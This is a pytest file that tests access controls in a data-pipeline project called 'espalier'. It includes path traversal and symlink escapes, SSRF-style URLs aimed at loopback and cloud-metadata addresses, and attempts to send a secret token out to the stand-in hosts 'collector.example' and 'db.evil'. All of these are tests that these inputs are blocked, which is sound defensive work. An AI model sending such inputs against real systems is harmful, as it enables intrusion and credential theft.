"""What a form may have read and written, by the functions that read and write."""

import os

import pytest

from espalier.infra.access.form_limits import output_path
from espalier.infra.access.origin import FORM, OPERATOR, Origin, asked_by
from espalier.infra.settings import load_settings
from espalier.infra.tables.chunks import read_chunks
from espalier.infra.tables.globs import expand_sources
from espalier.infra.tables.sources import read_table
from espalier.pipelines.errors import UserError


def test_an_operator_reads_whatever_the_process_can(home):
    assert len(read_table(str(home.parent / "other" / "rows.csv"))) == 1


@pytest.mark.parametrize("read", [read_table, expand_sources, lambda s: list(read_chunks(s))])
def test_a_form_reads_files_of_the_named_folders_alone(home, for_a_form, monkeypatch, read):
    top = home.parent
    data = top / "data"
    (data / "link.csv").symlink_to(top / "other" / "rows.csv")
    (data / ".hidden").mkdir()
    (data / ".hidden" / "rows.csv").write_text("a\n1\n")
    assert len(read(str(data / "rows.csv"))) == 1
    assert len(read(f"file://{data / 'rows.csv'}")) == 1
    for source in (
        str(top / "other" / "rows.csv"),
        str(top / "other" / "none.csv"),  # not even whether it is there
        f"{data}/../other/rows.csv",
        f"file://{top / 'other' / 'rows.csv'}",
        str(home / "rows.csv"),
        str(data / "link.csv"),
        str(data / ".hidden" / "rows.csv"),
        f"sqlite:///{top / 'other' / 'x.db'}",
    ):
        with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
            read(source)
    monkeypatch.setenv("ESPALIER_DATA_ROOTS", "")
    with pytest.raises(UserError, match="there is none"):
        read(str(data / "rows.csv"))


def test_the_homes_own_files_are_not_read_though_a_folder_above_is_named(
    home, for_a_form, monkeypatch
):
    monkeypatch.setenv("ESPALIER_DATA_ROOTS", str(home.parent))
    assert len(read_table(str(home.parent / "other" / "rows.csv"))) == 1
    with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
        read_table(str(home / "rows.csv"))


def test_a_pattern_leads_to_no_file_outside(home, for_a_form):
    data = home.parent / "data"
    assert expand_sources(f"{data}/*.csv") == (str(data / "rows.csv"),)
    (data / "z.csv").symlink_to(home.parent / "other" / "rows.csv")
    for pattern in (f"{data}/*.csv", f"{home.parent}/*/rows.csv", f"{data}/../other/*.csv"):
        with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
            expand_sources(pattern)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("http://127.0.0.1:1/x.csv", "no public address"),
        ("http://localhost:1/x.csv", "no public address"),
        ("http://2130706433:1/x.csv", "no public address"),
        ("http://0x7f.1:1/x.csv", "no public address"),
        ("http://[::1]:1/x.csv", "no public address"),
        ("http://[::ffff:10.0.0.1]/x.csv", "no public address"),
        ("https://169.254.169.254/latest/x.csv", "no public address"),
        ("http://good.example\\@127.0.0.1/x.csv", "not a plain web address"),
        ("http://a@b@127.0.0.1/x.csv", "not a plain web address"),
        ("simplecache::http://127.0.0.1/x.csv", "chain"),
        ("zip://x.csv::/etc/x.zip", "chain"),
        ("s3://payroll/x.csv", "ESPALIER_DATA_ROOTS"),
        ("ftp://127.0.0.1/x.csv", "ESPALIER_DATA_ROOTS"),
        ("memory://x.csv", "ESPALIER_DATA_ROOTS"),
        ("postgresql://u:p@db/x", "ESPALIER_FORM_HOSTS"),
        ("postgresql:///x?host=/var/run", "option 'host'"),
        ("postgresql://db.shop/x?service=y", "option 'service'"),
        ("postgresql:///x", "of the machine itself"),
        ("duckdb:///x.db", "of the machine itself"),
        ("sqlite://", "ESPALIER_DATA_ROOTS"),
    ],
)
def test_a_form_reaches_nothing_private(home, for_a_form, monkeypatch, source, why):
    monkeypatch.setenv("ESPALIER_DATA_ROOTS", f"{home.parent / 'data'},s3://shop/in")
    monkeypatch.setenv("ESPALIER_FORM_HOSTS", "db.shop")
    with pytest.raises(UserError, match=why):
        read_table(source, query="select 1" if "sql" in source or "duck" in source else None)


def test_objects_are_read_below_the_named_addresses(home, for_a_form, monkeypatch):
    import fsspec

    with fsspec.open("memory://shop/in/rows.csv", "w") as file:
        file.write("a,b\n1,2\n")
    monkeypatch.setenv("ESPALIER_DATA_ROOTS", "memory://shop/in")
    assert len(read_table("memory://shop/in/rows.csv")) == 1
    for source in ("memory://shop/in/../out/rows.csv", "memory://shop/inner/rows.csv"):
        with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
            read_table(source)


def test_a_form_gets_only_the_variables_that_are_meant_for_it(home, monkeypatch):
    data = home.parent / "data"
    monkeypatch.setenv("POSTGRES_PASSWORD", "hunter2-real")
    monkeypatch.setenv("ESPALIER_SECRET_FOLDER", str(data))
    monkeypatch.setenv("SHOP_FOLDER", str(data))
    with asked_by(FORM):
        with pytest.raises(UserError, match="POSTGRES_PASSWORD") as caught:
            read_table("${POSTGRES_PASSWORD}.csv")
        assert "hunter2" not in str(caught.value)
        assert len(read_table("${ESPALIER_SECRET_FOLDER}/rows.csv")) == 1
        with pytest.raises(UserError, match="SHOP_FOLDER"):
            read_table("${SHOP_FOLDER}/rows.csv")
    with asked_by(Origin(is_form=True, names=frozenset({"SHOP_FOLDER"}))):
        assert len(read_table("${SHOP_FOLDER}/rows.csv")) == 1
    with asked_by(OPERATOR):
        assert len(read_table("${SHOP_FOLDER}/rows.csv")) == 1


def test_a_forms_secret_goes_to_named_hosts_alone(home, for_a_form, monkeypatch):
    monkeypatch.setenv("ESPALIER_SECRET_TOKEN", "t0p-s3cret-token")
    source = "https://collector.example/${ESPALIER_SECRET_TOKEN}.csv"
    with pytest.raises(UserError, match=r"not sent to 'collector\.example'") as caught:
        read_table(source)
    assert "t0p" not in str(caught.value)
    with pytest.raises(UserError, match=r"'db\.evil'"):
        read_table("postgresql://u:${ESPALIER_SECRET_TOKEN}@db.evil/x", query="select 1")


def test_a_source_that_is_a_secret_as_a_whole_is_the_operators(home, for_a_form, monkeypatch):
    monkeypatch.setenv("ESPALIER_SECRET_SHOP", str(home.parent / "other" / "rows.csv"))
    assert len(read_table("${ESPALIER_SECRET_SHOP}")) == 1
    assert len(next(iter(read_chunks("${ESPALIER_SECRET_SHOP}")))) == 1
    assert expand_sources("${ESPALIER_SECRET_SHOP}") == ("${ESPALIER_SECRET_SHOP}",)
    with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
        read_table("${ESPALIER_SECRET_SHOP}/../../other/rows.csv")


def test_what_was_filled_in_is_in_no_message(home, monkeypatch):
    monkeypatch.setenv("ESPALIER_SECRET_NAME", "hunter2/real pass")
    with pytest.raises(UserError) as caught:
        read_table("${ESPALIER_SECRET_NAME}.csv")
    assert str(caught.value) == "file '${ESPALIER_SECRET_NAME}.csv' does not exist; check the path"


def test_a_process_of_prefect_works_for_a_form_unless_it_is_told_otherwise(home, monkeypatch):
    other = str(home.parent / "other" / "rows.csv")
    monkeypatch.setenv("PREFECT__FLOW_RUN_ID", "x")
    with pytest.raises(UserError, match="ESPALIER_DATA_ROOTS"):
        read_table(other)
    with asked_by(OPERATOR):
        assert len(read_table(other)) == 1


def test_a_form_writes_below_the_named_folders_alone(home, monkeypatch):
    settings = load_settings()
    assert output_path("scores.csv", settings) == home / "predictions" / "scores.csv"
    assert output_path("a/b.csv", settings).parent.is_dir()
    for out in ("../rows.csv", str(home / "rows.csv"), str(home.parent / "x.csv"), "../../x.csv"):
        with pytest.raises(UserError, match="ESPALIER_OUT_ROOTS"):
            output_path(out, settings)
    (home / "predictions" / "out").symlink_to(home.parent / "other")
    with pytest.raises(UserError, match="ESPALIER_OUT_ROOTS"):
        output_path("out/x.csv", settings)
    monkeypatch.setenv("ESPALIER_OUT_ROOTS", str(home.parent))
    settings = load_settings()
    assert output_path("other/x.csv", settings) == home.parent / "other" / "x.csv"
    for out in ("home/rows.csv", "home/experience/own.parquet"):  # never over the home's own
        with pytest.raises(UserError, match="ESPALIER_OUT_ROOTS"):
            output_path(out, settings)


def test_roots_are_absolute(monkeypatch):
    monkeypatch.setenv("ESPALIER_DATA_ROOTS", "data, ~/rows ,s3://b/x")
    assert load_settings().data_roots == (
        os.path.abspath("data"),
        os.path.expanduser("~/rows"),
        "s3://b/x",
    )
